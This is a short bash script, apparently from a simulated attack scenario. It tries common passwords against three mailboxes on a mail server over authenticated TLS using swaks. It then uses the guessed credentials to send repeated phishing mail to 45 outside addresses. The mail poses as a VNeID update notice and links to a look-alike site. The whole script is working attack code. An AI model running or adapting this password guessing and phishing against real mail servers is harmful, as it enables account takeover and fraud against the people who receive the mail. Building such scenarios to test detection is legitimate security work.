# Password guessing at the mail server inside TLS, success on one weak account, then a burst of letters from it.
# shellcheck shell=bash

attack_mail_account() {
  local user password to
  for user in vanthu hoangminh syt01; do
    for password in 123456 password saola@2026 Abc@1234 matkhau matkhau123; do
      if mail_login "$user@saola.example" "$password" --quit-after AUTH; then break; fi
    done
  done
  to=$(seq -f 'dan%03g@mail-ngoai.example' -s, 1 45)
  for user in 1 2 3; do
    mail_login hoangminh@saola.example matkhau123 --from hoangminh@saola.example --to "$to" \
      --h-Subject 'Thong bao cap nhat VNeID' --body 'Bam vao http://vneid-capnhat.example/ de cap nhat.' || true
  done
}

mail_login() {
  on attacker-mail timeout 60 swaks --silent 2 --server 10.10.20.30 --port 587 --tls --auth LOGIN --auth-user "$1" --auth-password "$2" "${@:3}"
}
